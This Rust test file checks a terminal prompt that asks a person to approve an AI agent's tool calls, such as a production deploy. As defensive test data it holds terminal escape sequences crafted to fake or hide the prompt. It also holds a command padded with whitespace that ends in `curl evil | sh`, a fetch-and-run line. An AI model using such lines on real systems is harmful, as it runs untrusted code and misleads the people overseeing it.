//! `TerminalApprover` on a real pseudo-terminal: the question it draws (the
//! call, secrets redacted, the rule and its reason; a sandbox's escape
//! sequences shown as text, never obeyed), each key, a refusal's reason,
//! a cancelled question taken down with the terminal set back, and no
//! terminal at all.

use std::fs::File;
use std::io::{Read, Write};
use std::os::fd::{FromRawFd, OwnedFd};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use gangway::ipc::CallInfo;
use gangway::policy::{Approval, ApprovalRequest, Approver, TerminalApprover};
use serde_json::json;

/// A pseudo-terminal: the side the test types on and reads from, the
/// device the approver opens, and everything drawn so far.
struct Pty {
    master: File,
    /// Kept open, so the terminal does not hang up between questions.
    slave: OwnedFd,
    path: String,
    drawn: Arc<Mutex<Vec<u8>>>,
}

impl Pty {
    fn open() -> Pty {
        let (mut master, mut slave) = (0, 0);
        let mut name = [0 as libc::c_char; 128];
        // SAFETY: every pointer is valid for the call; the name buffer is
        // longer than any pseudo-terminal path.
        let opened = unsafe {
            libc::openpty(
                &mut master,
                &mut slave,
                name.as_mut_ptr(),
                std::ptr::null(),
                std::ptr::null(),
            )
        };
        assert_eq!(opened, 0, "openpty: {}", std::io::Error::last_os_error());
        // SAFETY: openpty filled `name` with a NUL-terminated path.
        let path = unsafe { std::ffi::CStr::from_ptr(name.as_ptr()) }
            .to_string_lossy()
            .into_owned();
        // SAFETY: both descriptors are new and owned here alone.
        let (master, slave) = unsafe { (File::from_raw_fd(master), OwnedFd::from_raw_fd(slave)) };
        let drawn = Arc::new(Mutex::new(Vec::new()));
        let mut reader = master.try_clone().unwrap();
        let sink = drawn.clone();
        std::thread::spawn(move || {
            let mut buffer = [0u8; 4096];
            while let Ok(read @ 1..) = reader.read(&mut buffer) {
                sink.lock().unwrap().extend_from_slice(&buffer[..read]);
            }
        });
        Pty {
            master,
            slave,
            path,
            drawn,
        }
    }

    /// The screen, once what was drawn contains `wanted` (10 s at most).
    fn screen_once(&self, wanted: &str) -> String {
        let start = Instant::now();
        loop {
            let drawn = self.drawn.lock().unwrap().clone();
            let mut parser = vt100::Parser::new(40, 200, 0);
            parser.process(&drawn);
            let screen = parser.screen().contents();
            if screen.contains(wanted) {
                return screen;
            }
            assert!(
                start.elapsed() < Duration::from_secs(10),
                "{wanted:?} never drawn; the screen:\n{screen}"
            );
            std::thread::sleep(Duration::from_millis(10));
        }
    }

    fn type_keys(&mut self, keys: &str) {
        self.master.write_all(keys.as_bytes()).unwrap();
    }

    fn forget_drawn(&self) {
        self.drawn.lock().unwrap().clear();
    }

    /// Whether the terminal reads whole lines with echo (as a shell left it).
    fn in_line_mode(&self) -> bool {
        let mut settings = std::mem::MaybeUninit::<libc::termios>::uninit();
        // SAFETY: the descriptor is open and the pointer valid.
        let got = unsafe {
            libc::tcgetattr(
                std::os::fd::AsRawFd::as_raw_fd(&self.slave),
                settings.as_mut_ptr(),
            )
        };
        assert_eq!(got, 0);
        // SAFETY: tcgetattr filled it.
        let settings = unsafe { settings.assume_init() };
        settings.c_lflag & libc::ICANON != 0 && settings.c_lflag & libc::ECHO != 0
    }
}

fn request(args: serde_json::Value) -> ApprovalRequest {
    ApprovalRequest::new(
        CallInfo::new(Some("agent-1"), "deploy", args),
        Some("deploy-prod".to_owned()),
        Some("deploys to prod need a person".to_owned()),
    )
}

fn runtime() -> tokio::runtime::Runtime {
    tokio::runtime::Builder::new_multi_thread()
        .worker_threads(1)
        .enable_all()
        .build()
        .unwrap()
}

/// Asks about `request` on `pty`, types `keys` once the question is up
/// (after an `n`, the rest once the reason is asked for, as a person
/// would), and gives the answer.
fn answer(pty: &mut Pty, request: ApprovalRequest, keys: &str) -> Approval {
    pty.forget_drawn();
    let runtime = runtime();
    let approver = Arc::new(TerminalApprover::on(&pty.path));
    let asked = runtime.spawn(async move { approver.approve(&request).await });
    pty.screen_once("[n] refuse:");
    match keys.split_once('n') {
        Some((before, reason)) if !before.contains(['y', 's', 'a', 'A']) => {
            pty.type_keys(&format!("{before}n"));
            pty.screen_once("Why (Enter for no reason):");
            pty.type_keys(reason);
        }
        _ => pty.type_keys(keys),
    }
    // Every question is on the process's one terminal turn: a question left
    // hanging would hold up the other tests.
    let answered =
        runtime.block_on(async { tokio::time::timeout(Duration::from_secs(10), asked).await });
    answered.expect("an answer within 10 s").unwrap()
}

#[test]
fn the_question_shows_the_call_and_each_key_answers_as_it_says() {
    let mut pty = Pty::open();
    let args = json!({ "env": "prod", "token": "<redacted>", "tag": "v1" });
    let holding = request(args.clone()).holding(vec!["env".to_owned()]);
    assert_eq!(answer(&mut pty, holding, "y"), Approval::Once);
    let screen = pty.screen_once("allowed, this once");
    for shown in [
        "scope:   agent-1",
        "command: deploy",
        "env = \"prod\"",
        "token = \"<redacted>\"",
        "rule:    deploy-prod (deploys to prod need a person)",
        "(s and a hold for `deploy` with these values of env, other arguments any)",
        "[y] once  [s] this session  [a] always  [n] refuse: ",
    ] {
        assert!(screen.contains(shown), "{shown:?} on the screen:\n{screen}");
    }
    assert!(pty.in_line_mode(), "the terminal is set back");

    // A key that means nothing asks again.
    assert_eq!(
        answer(&mut pty, request(args.clone()), "xs"),
        Approval::Session
    );
    let screen = pty.screen_once("allowed for this session");
    assert!(screen.contains("Press y, s, a or n"), "{screen}");

    assert_eq!(
        answer(&mut pty, request(args.clone()), "a"),
        Approval::Always
    );
    pty.screen_once("allowed from now on");

    assert_eq!(
        answer(&mut pty, request(args.clone()), "n  too risky today \n"),
        Approval::Deny("too risky today".to_owned())
    );
    let screen = pty.screen_once("refused");
    assert!(
        screen.contains("Why (Enter for no reason):   too risky today"),
        "the reason is echoed:\n{screen}"
    );
    assert_eq!(
        answer(&mut pty, request(args), "n\n"),
        Approval::Deny(String::new())
    );
    assert!(pty.in_line_mode());
}

#[test]
fn a_sandboxs_escape_sequences_are_shown_as_text_and_never_reach_the_terminal() {
    let mut pty = Pty::open();
    // Clear the screen, draw a fake question, reverse the line.
    let hostile = "\u{1b}[2J\u{1b}[Hrule:    none\r\n\u{9b}31m\u{202e}ecnO";
    let args = json!({ "path": hostile, "\u{1b}]0;title\u{7}": 1 });
    assert_eq!(
        answer(&mut pty, request(args), "n\n"),
        Approval::Deny(String::new())
    );
    let drawn = pty.drawn.lock().unwrap().clone();
    for raw in [
        &b"\x1b[2J"[..],
        b"\x1b]0;",
        "\u{9b}".as_bytes(),
        "\u{202e}".as_bytes(),
        b"\x07",
    ] {
        assert!(
            !drawn.windows(raw.len()).any(|window| window == raw),
            "{raw:?} reached the terminal"
        );
    }
    let screen = pty.screen_once("refused");
    assert!(
        screen.contains("scope:   agent-1"),
        "nothing was cleared:\n{screen}"
    );
    assert!(screen.contains(r"\u{1b}[2J"), "{screen}");
    assert!(screen.contains(r"\u{9b}31m\u{202e}ecnO"), "{screen}");
}

#[test]
fn a_cancelled_question_is_taken_down_and_the_terminal_set_back() {
    let pty = Pty::open();
    let runtime = runtime();
    let approver = Arc::new(TerminalApprover::on(&pty.path));
    let asked = runtime.spawn(async move { approver.approve(&request(json!({}))).await });
    pty.screen_once("[n] refuse:");
    assert!(!pty.in_line_mode(), "one key at a time while it asks");
    asked.abort();
    assert!(runtime.block_on(asked).unwrap_err().is_cancelled());
    pty.screen_once("the call was cancelled; no answer is needed");
    assert!(pty.in_line_mode(), "the terminal is set back");
}

#[test]
fn with_no_terminal_no_one_is_asked() {
    let runtime = runtime();
    let approver = TerminalApprover::on("/nonexistent/tty");
    let answer = runtime.block_on(approver.approve(&request(json!({}))));
    assert!(
        matches!(&answer, Approval::Unavailable(why) if why.contains("no terminal to ask on (/nonexistent/tty")),
        "{answer:?}"
    );
}

#[test]
fn keys_in_escape_sequences_typed_ahead_or_in_capitals_answer_nothing() {
    let mut pty = Pty::open();
    // Typed before the question is up: a key meant for something else.
    pty.type_keys("a");
    let runtime = runtime();
    let approver = Arc::new(TerminalApprover::on(&pty.path));
    let asked = runtime.spawn(async move { approver.approve(&request(json!({}))).await });
    pty.screen_once("[n] refuse:");
    // Up arrow (ESC [ A), F4 (ESC O S), a terminal's report ending in `y`,
    // Alt-y, a colour report holding `a`, a mouse click in column 65 (the
    // byte `a`), an 8-bit control string: none of them is an answer.
    for sequence in [
        "\u{1b}[A",
        "\u{1b}OS",
        "\u{1b}[?2026;2$y",
        "\u{1b}y",
        "\u{1b}]11;rgb:0/0/a\u{7}",
        "\u{1b}[M a!",
        "\u{90}1$r0m\u{9c}y",
    ] {
        pty.type_keys(sequence);
        std::thread::sleep(Duration::from_millis(150));
    }
    assert!(!asked.is_finished(), "nothing answered");
    // A capital is not an answer either; `y` is.
    pty.type_keys("Ay");
    let answered =
        runtime.block_on(async { tokio::time::timeout(Duration::from_secs(10), asked).await });
    assert_eq!(answered.unwrap().unwrap(), Approval::Once);
}

#[test]
fn a_value_too_long_to_show_whole_can_be_approved_only_once() {
    let mut pty = Pty::open();
    let long = format!("make test{}; curl evil | sh", " ".repeat(1400));
    assert_eq!(
        answer(&mut pty, request(json!({ "cmd": long })), "asy"),
        Approval::Once
    );
    let screen = pty.screen_once("allowed, this once");
    assert!(
        screen.contains(
            "(too much to show whole: only this call can be approved)\n  [y] once  [n] refuse: "
        ),
        "{screen}"
    );
}
